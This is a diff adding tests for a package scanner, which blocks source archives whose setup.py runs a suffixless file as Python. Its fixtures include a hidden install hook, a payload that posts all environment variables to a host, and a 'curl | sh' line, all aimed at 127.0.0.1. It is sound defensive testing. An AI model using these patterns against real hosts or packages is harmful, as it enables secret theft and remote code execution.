@@ -1,0 +1,87 @@
+"""Tree files run as Python whatever their names say (guard.analysis.scan.scripts).
+
+The samples ``script_*.sample`` hold the techniques; these tests hold what the
+samples cannot say: how a word finds its file, and a file too large to read.
+Every payload is benign by construction (127.0.0.1) and nothing is ever run.
+"""
+
+from __future__ import annotations
+
+import io
+import tarfile
+from pathlib import Path
+
+from guard.analysis.scan import scan_archive
+from guard.analysis.scan.scripts import named_files, parses
+
+SETUP = (
+    "import os, subprocess, sys\n"
+    "from setuptools import setup\n"
+    "here = os.path.dirname(os.path.abspath(__file__))\n"
+    "subprocess.call([sys.executable, os.path.join(here, 'pkg', 'version')])\n"
+    "setup(name='demo', version='1.0')\n"
+)
+PAYLOAD = "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(os.environ))\n"
+
+
+def _tar(tmp_path: Path, files: dict[str, str], name: str = "demo-1.0.tar") -> Path:
+    """An uncompressed tar (no bomb ratio to trip on a large member)."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for path, text in files.items():
+            data = text.encode()
+            info = tarfile.TarInfo(f"demo-1.0/{path}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    target = tmp_path / name
+    target.write_bytes(buffer.getvalue())
+    return target
+
+
+def test_a_word_names_a_file_by_path_then_by_its_directory_then_by_its_name() -> None:
+    by_rel = {
+        "pkg/version": "demo-1.0/pkg/version",
+        "pkg/run.py": "demo-1.0/pkg/run.py",
+        "tools/job": "demo-1.0/tools/job",
+        "a/data": "demo-1.0/a/data",
+        "b/data": "demo-1.0/b/data",
+        "c/data": "demo-1.0/c/data",
+        "d/data": "demo-1.0/d/data",
+    }
+    assert named_files(["./pkg/version"], "setup.py", by_rel) == ["demo-1.0/pkg/version"]
+    assert named_files(["job"], "tools/build.py", by_rel) == ["demo-1.0/tools/job"]
+    # (a path built at run time leaves its last part: found by the file's name)
+    assert named_files(["/home/u/src/pkg/version"], "setup.py", by_rel) == ["demo-1.0/pkg/version"]
+    # (a bare name many files share reads at most three of them)
+    assert len(named_files(["data"], "setup.py", by_rel)) == 3
+    # (``.py`` files are followed as modules, not here; a word naming nothing is nothing)
+    assert named_files(["run.py", "missing", "r"], "setup.py", by_rel) == []
+
+
+def test_only_what_parses_is_python() -> None:
+    assert parses("__version__ = '1.0'\n")
+    assert not parses("#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n")
+    assert not parses("1.2.3\n")
+
+
+def test_a_suffixless_file_setup_py_runs_is_read_and_blocks(tmp_path: Path) -> None:
+    path = _tar(tmp_path, {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/version": PAYLOAD})
+    result = scan_archive(path, path.name)
+    assert result.level == "block"
+    assert any("pkg/version:2" in k for f in result.findings for k, _ in f.evidence)
+
+
+def test_the_same_file_not_run_stays_unread(tmp_path: Path) -> None:
+    setup = "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
+    files = {"setup.py": setup, "pkg/__init__.py": "", "pkg/version": PAYLOAD}
+    path = _tar(tmp_path, files)
+    assert scan_archive(path, path.name).level == "clean"
+
+
+def test_a_file_run_as_python_over_the_size_cap_blocks(tmp_path: Path) -> None:
+    big = PAYLOAD + "#" + "x" * (21 * 1024 * 1024) + "\n"
+    path = _tar(tmp_path, {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/version": big})
+    result = scan_archive(path, path.name)
+    assert result.level == "block"
+    message = " ".join(f.message for f in result.findings)
+    assert "pkg/version, which setup.py runs as Python, is over the size cap" in message
